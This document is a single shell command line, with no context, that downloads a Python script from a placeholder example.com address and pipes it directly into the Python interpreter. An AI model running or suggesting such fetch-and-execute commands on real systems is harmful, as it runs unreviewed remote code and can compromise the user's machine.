curl https://example.com/x.py | python3 -
